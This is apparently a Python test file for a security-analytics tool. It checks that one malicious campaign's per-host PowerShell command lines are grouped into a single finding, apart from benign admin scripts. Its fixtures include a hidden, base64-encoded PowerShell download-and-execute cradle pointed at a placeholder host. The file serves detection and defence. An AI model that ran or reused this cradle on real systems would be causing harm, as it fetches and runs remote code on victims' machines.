"""Per-host command lines of one shape are one host finding (analytics.host_finding_groups, FLOOD).

Red team T16: a wscript lure's ``powershell -enc`` cradle, its URL's path different on each of 60 hosts,
made 60 host-finding rows at risk 80 (none shares a command line), which pushed every cluster under 80
out of the top 10.  One rule's hits whose command lines agree once per-host parts are masked, from the
same parent, on ``min_hosts`` hosts, each within hours of the one before, are one finding listing every host
and its own line.
"""

from __future__ import annotations

import base64

from analytics.config import DetectionConfig
from analytics.host_finding_groups import SHAPE_WINDOW_SECONDS, group_findings
from analytics.host_finding_words import host_finding_clusters
from analytics.host_findings import Hit
from tests.analytics.test_host_finding_carry import _Journal

WSCRIPT = r"C:\Windows\System32\wscript.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
LURE = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-pixel-metrics.example/i/{token}.png')"
ADMIN = "IEX (New-Object Net.WebClient).DownloadString('http://intranet.corp.example/it/{token}.ps1?pc={host}')"


def _encoded(script: str) -> str:
    return "powershell.exe -nop -w hidden -enc " + base64.b64encode(script.encode("utf-16le")).decode()


def _token(n: int) -> str:
    """An 8-letter per-host name, as the simulator's {{random}} (letters only: no digit gives it away)."""
    return "".join("abcdefghijKLMNOPQRSTuvwxyz"[(n // 26 ** k + 5 * k) % 26] for k in range(8))


def _stager(journal: _Journal, host: str, n: int, ts: float, script: str, parent: str = WSCRIPT) -> None:
    journal.add(host, f"p{host}-{n}", "sysmon:process_create", ts,
                {"process.executable": POWERSHELL, "process.command_line": _encoded(script),
                 "process.parent.executable": parent, "process.guid": f"g{host}-{n}"})


def _lure(journal: _Journal, hosts: list[str], start: float = 50_000.0) -> None:
    for n, host in enumerate(hosts):
        _stager(journal, host, n, start + 10.0 * n, LURE.format(token=_token(n)))


def _findings(journal: _Journal, min_hosts: int = 3):
    return host_finding_clusters(journal, DetectionConfig(min_hosts=min_hosts), (0.0, 400_000.0))[0]


def test_sixty_per_host_encoded_cradles_are_one_finding_listing_every_host_and_its_own_command_line():
    journal = _Journal()
    hosts = [f"ws-{i:04d}" for i in range(60)]
    _lure(journal, hosts)
    found = _findings(journal)
    assert [c.hosts for c in found] == [hosts]  # before: 60 findings, one per host
    [campaign] = found
    assert campaign.score == 84.0  # script_stager 80, +4 for 16 hosts or more
    record = campaign.host_finding
    assert record["hits_total"] == 60
    # every host is listed with its own (per-host) command line, past the 50 hits a record lists
    shown = {h["host"]: h["command_line"] for h in record["hits"]}
    assert sorted(shown) == hosts and len(set(shown.values())) == 60


def test_a_benign_admin_script_of_the_same_form_from_another_server_is_not_merged_with_the_lure():
    journal = _Journal()
    lure_hosts = [f"ws-{i:04d}" for i in range(10)]
    admin_hosts = [f"ws-{i:04d}" for i in range(100, 110)]
    _lure(journal, lure_hosts)
    for n, host in enumerate(admin_hosts):  # same parent, switches and verbs, in the same minutes
        _stager(journal, host, 1000 + n, 50_005.0 + 10.0 * n, ADMIN.format(token=_token(n), host=host))
    assert sorted(c.hosts for c in _findings(journal)) == [lure_hosts, admin_hosts]  # before: 20 findings


def test_the_lure_on_one_host_beside_the_admin_script_on_ten_stays_its_own_case():
    journal = _Journal()
    admin_hosts = [f"ws-{i:04d}" for i in range(100, 110)]
    for n, host in enumerate(admin_hosts):
        _stager(journal, host, n, 50_000.0 + 10.0 * n, ADMIN.format(token=_token(n), host=host))
    _lure(journal, ["ws-0007"], start=50_020.0)
    found = _findings(journal)
    assert sorted(c.hosts for c in found) == [["ws-0007"], admin_hosts]
    assert next(c for c in found if c.hosts == ["ws-0007"]).score == 80.0


def test_another_parent_is_another_act():
    journal = _Journal()
    hosts = [f"ws-{i:04d}" for i in range(6)]
    _lure(journal, hosts[:3])
    for n, host in enumerate(hosts[3:]):
        _stager(journal, host, 50 + n, 50_100.0 + n, LURE.format(token=_token(50 + n)),
                parent=r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE")
    assert sorted(c.hosts for c in _findings(journal)) == [hosts[:3], hosts[3:]]


def test_fewer_hosts_than_min_hosts_or_hours_apart_stay_one_finding_per_host():
    journal = _Journal()
    _lure(journal, ["ws-0001", "ws-0002"])
    assert len(_findings(journal)) == 2  # two hosts, min_hosts 3
    assert len(_findings(journal, min_hosts=2)) == 1
    spread = _Journal()
    for n, host in enumerate(["ws-0001", "ws-0002", "ws-0003", "ws-0004"]):  # one every 6 h: no chain
        _stager(spread, host, n, 50_000.0 + n * 1.5 * SHAPE_WINDOW_SECONDS, LURE.format(token=_token(n)))
    assert len(_findings(spread)) == 4


def test_a_lure_trickled_a_host_every_fifty_minutes_is_still_one_finding():
    journal = _Journal()
    hosts = [f"ws-{i:04d}" for i in range(12)]
    for n, host in enumerate(hosts):  # 2 hosts an hour, 9 hours in all: under any 1-hour window's 3
        _stager(journal, host, n, 50_000.0 + n * 3000.0, LURE.format(token=_token(n)))
    assert [c.hosts for c in _findings(journal)] == [hosts]


def test_different_rules_are_never_one_shape():
    def hit(host: str, rule: str) -> Hit:
        return Hit(host, rule, 1.0, f"e-{host}", POWERSHELL, _encoded(LURE.format(token=_token(len(host) + ord(host[-1])))),
                   "s-" + host, "matched", WSCRIPT)

    findings = group_findings([hit("a", "script_stager"), hit("b", "script_stager"), hit("c", "cmd_stager"),
                               hit("d", "cmd_stager")], min_hosts=2)
    assert sorted((f.hosts, f.rules) for f in findings) == [(["a", "b"], ["script_stager"]),
                                                            (["c", "d"], ["cmd_stager"])]


def test_a_shape_groups_case_keeps_its_id_when_a_host_joins_it():
    journal = _Journal()
    hosts = [f"ws-{i:04d}" for i in range(11)]
    _lure(journal, hosts[:10])
    [before] = _findings(journal)
    _stager(journal, hosts[10], 10, 50_200.0, LURE.format(token="zzQQzzQQ"))  # the 11th host, minutes later
    [after] = _findings(journal)
    assert after.hosts == hosts and len(after.host_finding["subjects"]) == 11  # a subject of its own
    assert after.id == before.id  # before: each host's subject in the id
